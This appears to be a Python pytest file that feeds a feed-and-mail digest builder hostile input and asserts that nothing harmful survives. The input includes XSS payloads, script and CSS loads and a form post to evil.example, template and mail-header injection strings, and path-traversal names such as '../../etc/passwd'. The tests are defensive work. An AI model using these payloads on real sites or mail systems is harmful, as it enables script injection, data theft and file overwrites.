"""What hostile and broken input does to an issue; the numbers are those of the fault list.

Each fault goes through the whole program: from a file on the disk to what a parser finds in every
file that was written.
"""

from __future__ import annotations

import json
import re
from base64 import b64encode
from collections import Counter
from collections.abc import Sequence
from datetime import UTC, datetime
from email import message_from_bytes, policy
from html import escape
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from outputs import active, build, everything, files, links, pages, shown

from digest.collect import Options, Snapshot, Store
from digest.config import load
from digest.errors import ConfigError
from digest.model import Article, Story
from digest.text import slug

SHARED = Path(__file__).parents[1].parent / "shared"
SEEDS = SHARED / "seeds"
SANITIZE = SHARED / "data" / "feeds" / "feedparser" / "wellformed" / "sanitize"

DAY = "<pubDate>Tue, 28 Jan 2025 08:00:00 GMT</pubDate>"
BODY = "Oaks grow slowly in the northern hills, and nobody there is in a hurry about them at all."


def item(title: str, link: str = "", body: str = BODY, more: str = "") -> str:
    return (
        f"<item><title>{escape(title)}</title><link>{escape(link)}</link>"
        f"<description>{escape(body)}</description>{DAY}{more}</item>"
    )


def rss(*items: str) -> str:
    head = (
        '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>F</title>'
    )
    return head + "".join(items) + "</channel></rss>"


def publish(root: Path, *items: str) -> Path:
    """Build an issue from one feed."""
    (root / "f.xml").write_text(rss(*items), encoding="utf-8")
    build(root, '[[source]]\nfeed = "f.xml"\nname = "Feed"\n')
    return root


def issue(root: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((root / "out/2025-W05/issue.json").read_text("utf-8"))
    return found


def titles(root: Path) -> list[str]:
    return [story["title"] for section in issue(root)["sections"] for story in section["stories"]]


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Counter[str]:
    """What acts in an issue of harmless material: the program's own."""
    root = publish(tmp_path_factory.mktemp("harmless"), item("Oaks", "https://a.example/oaks"))
    return Counter({found: 99 for page in pages(root).values() for found in active(page)})


def foreign(root: Path, harmless: Counter[str]) -> list[str]:
    """What acts in an issue beyond the program's own."""
    return [f for page in pages(root).values() for f in active(page) if f not in harmless]


@pytest.mark.parametrize(
    "link", ["javascript:alert(1)", " JaVa\tScript:alert(1)", "data:text/html,x"]
)
def test_fault_01_a_link_that_runs(tmp_path: Path, harmless: Counter[str], link: str) -> None:
    root = publish(tmp_path, item("Oaks grow slowly", link))
    assert ["Oaks grow slowly"] == titles(root)
    assert [] == foreign(root, harmless)
    assert not [url for url in links(root) if re.search("script|data:", url, re.IGNORECASE)]


def test_fault_02_markup_in_a_title_is_text(tmp_path: Path, harmless: Counter[str]) -> None:
    title = "<img src=x onerror=alert(1)> in the wild"
    root = publish(tmp_path, item(title, "https://a.example/1"))
    assert [title] == titles(root)
    assert [] == foreign(root, harmless)
    for name, page in pages(root).items():
        if name.startswith("2025-W05/") and not name.endswith("preview.html"):
            assert title in shown(page), name
    assert title in (root / "out/2025-W05/issue.txt").read_text("utf-8").replace("\n", " ")


@pytest.mark.parametrize(
    "markup",
    [
        "<svg onload=alert(1)><circle/></svg>",
        "<form action='https://evil.example/'><input name=q><button>Go</button></form>",
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style=\"background:url(javascript:alert(1))\">styled</p>",
        "<script>alert(1)</script><ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<a href='javascript&#58;alert(1)'>a</a><a href='vbscript:x'>b</a>",
    ],
)  # fmt: skip
def test_fault_03_active_markup_in_a_text(
    tmp_path: Path, harmless: Counter[str], markup: str
) -> None:
    root = publish(
        tmp_path, item("Oaks", "https://a.example/1", f"<p>{BODY}</p>{markup}<p>{BODY}</p>")
    )
    assert [] == foreign(root, harmless)
    assert "evil.example" not in everything(root)


def test_fault_04_a_link_that_runs_in_markdown(tmp_path: Path, harmless: Counter[str]) -> None:
    (tmp_path / "docs").mkdir()
    text = (
        f"---\ntitle: '[Oaks](javascript:1)'\ndate: 2025-01-28\n---\n\n{BODY} [x](javascript:1)\n"
    )
    (tmp_path / "docs" / "a.md").write_text(text)
    build(tmp_path, '[[source]]\nfolder = "docs"\nname = "Docs"\n')
    assert [] == foreign(tmp_path, harmless)


def test_fault_05_a_template_in_a_title_is_text(tmp_path: Path) -> None:
    title = "{{7*7}} and {% include 'x' %} and ${7*7}"
    root = publish(tmp_path, item(title, "https://a.example/1", f"{BODY} {{{{7*7}}}}."))
    assert [title] == titles(root)
    for name, page in pages(root).items():
        if not name.endswith("preview.html"):  # it counts bytes, and embeds the files checked here
            assert "49" not in re.sub(r"#\w+|&#\d+;|\d+(?:px|%|em)", "", shown(page)), name
        if name.startswith("2025-W05/"):
            assert title in shown(page), name


def test_fault_06_a_script_for_an_author(tmp_path: Path, harmless: Counter[str]) -> None:
    author = f"<author>{escape('<script>alert(1)</script>')}</author>"
    creator = f"<dc:creator>{escape('<img src=x onerror=alert(1)>')}</dc:creator>"
    root = publish(tmp_path, item("Oaks", "https://a.example/1", more=author + creator))
    assert [] == foreign(root, harmless)


def test_fault_07_direction_marks_in_a_title(tmp_path: Path) -> None:
    root = publish(tmp_path, item("abc\u202edef\u2066ghi\u200e jkl", "https://a.example/1"))
    assert ["abcdefghi jkl"] == titles(root)
    assert "\u202e" not in everything(root)


def test_fault_08_a_header_in_a_title(tmp_path: Path) -> None:
    title = "=?utf-8?q?a=0ABcc=3A_e=40x?="
    root = publish(tmp_path, item(title, "https://a.example/1"))
    assert "Bcc:" not in everything(root)
    mails = [content for name, content in files(root).items() if name.endswith(".eml")]
    for content in mails:
        message = message_from_bytes(content, policy=policy.default)
        assert message["bcc"] is None
        assert "\n" not in str(message["subject"])


NAMES = (
    "../../etc/passwd",
    "con",
    "",
    "x" * 300,
    "🎉🎊",
    "nul.txt",
    "a\\b:c",
    "..",
    "/etc/cron.d/x",
)


def test_fault_09_names_that_lead_elsewhere(tmp_path: Path) -> None:
    items = [
        item(f"{name} {at}" if at % 2 else name, f"https://a.example/{at}", f"{BODY} Number {at}.",
             f"<guid isPermaLink='false'>{escape(name)}</guid>")
        for at, name in enumerate(NAMES)
    ]  # fmt: skip
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "f.xml").write_text(rss(*items), encoding="utf-8")
    topics = "".join(
        f"[[topic]]\nname = {json.dumps(n, ensure_ascii=False)}\nkeywords = ['oaks']\n"
        for n in NAMES
        if n
    )
    build(tmp_path / "p", '[[source]]\nfeed = "f.xml"\nname = "../con"\n' + topics)
    assert ["p"] == [path.name for path in tmp_path.iterdir()]
    assert {".digest", "digest.toml", "f.xml", "out"} >= {
        p.name for p in (tmp_path / "p").iterdir()
    }
    for name in files(tmp_path / "p"):
        for part in name.split("/"):
            assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{0,120}", part), name
            assert part.partition(".")[0].lower() not in ("con", "nul", "aux", "prn"), name
    ids = [
        story["id"] for section in issue(tmp_path / "p")["sections"] for story in section["stories"]
    ]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("name", NAMES)
def test_fault_09_a_slug_is_always_safe(name: str) -> None:
    assert re.fullmatch(r"[a-z0-9-]{1,80}", slug(name))
    assert slug(name) not in ("con", "nul", "aux", "prn", "com1", "lpt9")


@pytest.mark.parametrize(
    "address",
    ["file:///etc/passwd", "gopher://a.example/1", "data:text/xml,<rss/>", "javascript:1"],
)
def test_fault_13_schemes_that_are_no_feed(tmp_path: Path, address: str) -> None:
    path = tmp_path / "digest.toml"
    path.write_text(f'[publication]\ntitle = "T"\n\n[[source]]\nfeed = "{address}"\n')
    with pytest.raises(ConfigError, match=r"digest\.toml:4: source 1: .*scheme") as caught:
        load(path)
    assert "http or https" in caught.value.hint


def test_fault_27_a_page_in_the_place_of_a_feed(tmp_path: Path) -> None:
    (tmp_path / "good.xml").write_text(rss(item("Oaks", "https://a.example/1")))
    (tmp_path / "page.xml").write_text(
        "<!doctype html><html><head><link rel=alternate type='application/rss+xml' "
        "href='https://a.example/feed'></head><body>Hi</body></html>"
    )
    sources = '[[source]]\nfeed = "good.xml"\n[[source]]\nfeed = "page.xml"\n'
    said = build(tmp_path, sources)
    assert "not a feed but a web page (it offers https://a.example/feed)" in said
    assert ["Oaks"] == titles(tmp_path)


@pytest.mark.parametrize("version", ["1", "1.1"])
def test_fault_29_json_feed_served_as_text(tmp_path: Path, version: str) -> None:
    url = "https://a.example/feed"
    day = "2025-01-28T08:00:00Z"
    rows = [
        {"id": 7, "title": "Oaks", "url": "https://a.example/7", "date_published": day},
        {"id": 8.5, "title": "Ponds", "content_text": BODY, "date_published": day},
    ]
    body = {"version": f"https://jsonfeed.org/version/{version}", "title": "J", "items": rows}
    with Store(tmp_path) as store:
        store.save(
            Snapshot(
                url=url,
                fetched_at=datetime(2025, 2, 1, tzinfo=UTC),
                body=json.dumps(body).encode(),
                content_type="text/plain; charset=utf-8",
            )
        )
    build(tmp_path, f'[[source]]\nfeed = "{url}"\nname = "J"\n')
    assert {"Oaks", "Ponds"} == {outcome["title"] for outcome in issue(tmp_path)["outcomes"]}
    assert all(isinstance(outcome["id"], str) for outcome in issue(tmp_path)["outcomes"])


# --- the sample documents -------------------------------------------------------------------


@pytest.fixture(scope="module")
def seeds(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The five sample documents in one run, each from a source of its own."""
    if not SEEDS.is_dir():
        pytest.skip("the sample documents are not here")
    root = tmp_path_factory.mktemp("seeds")
    sources = ""
    for at, path in enumerate(sorted(SEEDS.glob("*.txt"))):
        (root / f"s{at}").mkdir()
        (root / f"s{at}" / "a.txt").write_bytes(path.read_bytes())
        sources += f'[[source]]\nfolder = "s{at}"\nname = "Source {at}"\n'
    build(root, sources)
    return root


def test_fault_34_one_story_of_five_sources(seeds: Path) -> None:
    stories = [story for section in issue(seeds)["sections"] for story in section["stories"]]
    big = max(stories, key=lambda story: len(story["coverage"]))
    assert 5 == 1 + len(big["coverage"])
    assert 5 == len({big["source"], *(coverage["source"] for coverage in big["coverage"])})
    said = [big["blurb"], *(coverage["angle"] for coverage in big["coverage"])]
    for standing in ("Related Posts", "Recent Blog Posts", "Yorumlar", "in your inbox"):
        assert not [text for text in said if standing.lower() in text.lower()]


def test_fault_35_teasers_are_not_attributed(seeds: Path) -> None:
    document = (seeds / "s2" / "a.txt").read_text("utf-8")
    _, heading, teasers = document.partition("Recent Blog Posts")
    assert heading
    lines = [line.strip() for line in teasers.splitlines() if len(line.split()) >= 4]
    assert lines
    told = json.dumps(issue(seeds)["sections"], ensure_ascii=False)
    assert not [line for line in lines if line in told]


# --- mails ----------------------------------------------------------------------------------

MAIL = "From: Notes <n@notes.example>\nTo: owner@reader.example\nDate: 28 Jan 2025 08:00 +0000\n"


def mailbox(root: Path, **mails: bytes) -> str:
    (root / "box").mkdir()
    for name, data in mails.items():
        (root / "box" / name.replace("_", ".")).write_bytes(data)
    return build(root, '[[source]]\nmailbox = "box"\nname = "Mails"\n')


def test_fault_36_mails_of_every_kind_are_an_entry_or_a_warning(tmp_path: Path) -> None:
    nested = (
        MAIL + "Subject: Nested\nContent-Type: multipart/mixed; boundary=a\n\n--a\n"
        "Content-Type: multipart/related; boundary=b\n\n--b\n"
        "Content-Type: multipart/alternative; boundary=c\n\n--c\nContent-Type: text/plain\n\nno\n"
        f"--c\nContent-Type: text/html\n\n<p>{BODY} Nested.</p>\n--c--\n--b--\n--a--\n"
    )
    winmail = (
        MAIL + "Subject: Winmail\nContent-Type: application/ms-tnef; name=winmail.dat\n"
        "Content-Transfer-Encoding: base64\n\n" + b64encode(b"\x78\x9f\x3e\x22").decode() + "\n"
    )
    klingon = (MAIL + "Subject: Klingon\nContent-Type: text/plain; charset=x-tlh\n\nCaf").encode()
    mbox = (
        "From n@notes.example Tue Jan 28 08:00:00 2025\n" + MAIL + "Subject: Boxed\n"
        f"Message-ID: <1@x>\n\n{BODY}\n\nFrom here on it rains.\n\n"
        "From n@notes.example Tue Jan 28 08:00:00 2025\n" + MAIL + "Subject: Second box\n\nPonds.\n"
    )
    said = mailbox(
        tmp_path,
        nested_eml=nested.encode(),
        winmail_eml=winmail.encode(),
        klingon_eml=klingon + f"\xe9. {BODY} In another tongue.\n".encode("latin-1"),
        empty_eml=b"",
        in_mbox=mbox.encode(),
        noid_eml=(MAIL + f"Subject: Nameless\n\n{BODY} Without a name.\n").encode(),
    )
    outcomes = {o["title"]: o["outcome"] for o in issue(tmp_path)["outcomes"]}
    for title in ("Nested", "Klingon", "Boxed", "Second box", "Nameless"):
        assert outcomes.pop(title) in ("used", "copy of", "merged into"), title
    assert {"unreadable"} == set(outcomes.values())
    assert 2 == len(outcomes)
    for words in ("unknown charset 'x-tlh'", "winmail.dat", "empty.eml: empty"):
        assert words in said


LEAVE = "https://lists.example/u/7f3a"


@pytest.mark.parametrize("kind", ["mailbox", "folder"])
def test_fault_37_what_is_the_recipients_alone(tmp_path: Path, kind: str) -> None:
    body = f"""<html><body><div style="display:none">Secret preheader</div>
    <p><a href="https://us1.campaign-archive.com/?e=7f3a">View this email in your browser</a></p>
    <img src="https://t.example/open.gif?u=7f3a" width="1" height="1">
    <h2>Links</h2>
    <ul><li><a href="https://click.mail.example/?u=https%3A%2F%2Foaks.example%2Fa%3Fid%3D1%26uid%3D7f3a">
    Oaks outgrow every forecast</a>: {BODY}</li>
    <li><a href="https://ponds.example/b?utm_source=x&email=owner@reader.example">Ponds freeze
    late</a>: the ice came in the second week.</li>
    <li><a href="https://ducks.example/c?subscriber_id=7f3a">Ducks return in numbers</a>: all.</li>
    </ul>
    <p>You are receiving this because owner@reader.example signed up.
    <a href="{LEAVE}">Unsubscribe</a> or <a href="https://lists.example/prefs?u=7f3a">update your
    preferences</a>.</p></body></html>"""
    head = MAIL + f"Subject: Notes\nList-Unsubscribe: <{LEAVE}>\nContent-Type: text/html\n\n"
    (tmp_path / "box").mkdir()
    (tmp_path / "box" / "1.eml").write_text(head + body, encoding="utf-8")
    build(tmp_path, f'[[source]]\n{kind} = "box"\nname = "Mails"\n')
    assert {
        "Oaks outgrow every forecast",
        "Ponds freeze late",
        "Ducks return in numbers",
    } <= set(titles(tmp_path))
    assert {
        "https://oaks.example/a?id=1",
        "https://ponds.example/b",
        "https://ducks.example/c",
    } <= links(tmp_path)
    said = everything(tmp_path)
    for secret in (
        "7f3a",
        "owner@reader",
        "campaign-archive",
        "open.gif",
        "Secret preheader",
        "lists.example",
        "click.mail",
        "utm_source",
    ):
        assert secret not in said, secret  # fmt: skip


def test_fault_38_texts_of_every_kind(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "nul.txt").write_bytes(b"Oaks\0grow")
    (docs / "latin.txt").write_bytes(
        "Ducks come back\n\nThe whole pond is a caf\xe9 again, they say.".encode("latin-1")
    )
    (docs / "crlf.txt").write_bytes(f"Ponds in winter\r\n\r\n{BODY} Ponds too.\r\n".encode())
    (docs / "long.txt").write_bytes(b"word " * 2_000_000)
    (docs / "longer.txt").write_bytes(b"x" * (Options().max_bytes + 1))
    said = build(tmp_path, '[[source]]\nfolder = "docs"\nname = "Docs"\n')
    outcomes = Counter(outcome["outcome"] for outcome in issue(tmp_path)["outcomes"])
    assert 2 == outcomes["unreadable"]
    assert 5 == outcomes.total()
    assert "nul.txt: binary" in said
    assert "longer.txt: larger than" in said
    assert "\r" not in everything(tmp_path).replace("\r\n", "")
    assert "café" in everything(tmp_path)


# --- feedparser's own -----------------------------------------------------------------------


@pytest.mark.skipif(not SANITIZE.is_dir(), reason="the collection is not here")
def test_nothing_active_survives_of_feedparsers_sanitising_cases(
    tmp_path: Path, harmless: Counter[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def alone(articles: Sequence[Article], _options: object, _encode: object) -> SimpleNamespace:
        return SimpleNamespace(stories=[Story(id=article.id, lead=article) for article in articles])

    # Many cases say the same: none of them may hide behind another.
    monkeypatch.setattr("digest.pipeline.find_stories", alone)
    paths = sorted(SANITIZE.glob("*.xml"))
    assert 745 == len(paths)
    build(tmp_path, f'[[source]]\nfolder = "{SANITIZE}"\nname = "Cases"\n')
    stats = issue(tmp_path)["stats"]
    # A case that holds nothing but an empty element has nothing to print.
    assert stats["collected"] == stats["chosen"] + stats["unreadable"] + stats["outside"]
    assert stats["chosen"] > 200
    assert [] == foreign(tmp_path, harmless)
